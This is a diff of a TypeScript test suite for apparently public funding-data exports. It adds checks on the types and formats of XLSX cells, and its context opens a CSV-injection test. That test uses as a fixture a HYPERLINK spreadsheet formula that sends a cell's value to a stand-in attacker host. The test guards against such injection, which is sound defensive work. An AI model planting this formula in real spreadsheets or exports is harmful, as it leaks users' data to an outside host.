@@ -193,6 +193,32 @@ describe("datasets", () => {
   });
 });
 
+describe("XLSX cells", () => {
+  it("are dates, numbers and text as typed, in the French date format, under a frozen, filterable header", async () => {
+    const [header = [], ...rows] = await csv("fundings.csv?year=2023");
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await get("fundings.xlsx?year=2023")).arrayBuffer());
+    const sheet = workbook.getWorksheet("fundings");
+    if (!sheet) throw new Error("no fundings sheet");
+    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
+    expect(sheet.autoFilter).toBeTruthy();
+    const column = (name: string) => header.indexOf(name) + 1;
+    const first = rows[0] ?? [];
+    const row = sheet.getRow(2);
+    const decision = row.getCell(column("decision_date"));
+    expect(decision.type).toBe(ExcelJS.ValueType.Date);
+    expect(decision.numFmt).toBe("dd/mm/yyyy");
+    expect(decision.value).toEqual(new Date(`${first[column("decision_date") - 1]}T00:00:00Z`));
+    const published = row.getCell(column("published_at"));
+    expect(published.type).toBe(ExcelJS.ValueType.Date);
+    expect(published.numFmt).toBe("dd/mm/yyyy hh:mm");
+    expect((published.value as Date).getTime()).toBe(Date.parse(first[column("published_at") - 1] ?? ""));
+    const amount = row.getCell(column("amount"));
+    expect([amount.type, amount.value]).toEqual([ExcelJS.ValueType.Number, Number(first[column("amount") - 1])]);
+    expect(row.getCell(column("purpose")).type).toBe(ExcelJS.ValueType.String);
+  });
+});
+
 describe("spreadsheet formulas in published text (CSV injection)", () => {
   const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")';
   it("are made inert in every CSV, kept as plain text in XLSX, and numbers stay numbers", async () => {
